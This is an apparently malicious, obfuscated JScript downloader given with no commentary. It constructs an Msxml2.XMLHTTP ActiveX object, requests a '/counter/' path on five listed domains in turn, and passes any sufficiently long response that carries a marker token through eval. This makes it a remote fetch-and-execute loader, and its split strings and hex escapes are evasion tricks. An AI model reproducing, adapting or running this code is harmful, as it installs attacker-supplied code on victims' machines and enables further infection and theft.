function reqty(fdga) { eval(fdga); }
function mesuto() {
	for (var i=0; i<x.length; i++)
	{	
	var vDJmB = function(){
		return new ActiveXObject(g2);
	}();
	var e = vDJmB;

	try
	{		
		var raspbna2s=["\x6F"+pi6dnz];
		e[raspbna2s[9-9+0]]("G"+"ET", t4 + ":"+ter+ter+x[i]+"/c"+"o"+"u"+"n"+"ter/?"+m,false);
		e.send();

		var r = e.responseText;

		if (r.length > 999+1 && r.indexOf(m) > -1)
		{
			reqty(e.responseText.split(m).join(zaima.substring(2,3)));

			break;
		};
	}
	catch(e)
	{
	};
	};
}

var omd6rd="";

var sder = "P";
var g2 = "M"+"sxml2.XMLHT"+""+"T"+""+sder;

var m = "rXcdCxKsfKLv5sxkM7P6GLnZAA_rxFN6ffAJaPQXGVE-gv15I7yILA51hPn9ExzXF5nLm-wWckgNaxI";

var x = new Array("jeannetaylordds.com", "iveybusiness.vmnow.co", "ted-woodworking-plans.com", "ronniespersonaltouchjanitorialservice.com", "leonbacchus.com");
var t4 = "ht"+"tp";
var pi6dnz = "\x70"+"\x65\x6E";
var zaima = "qwadro";
var ter = "/";

mesuto();

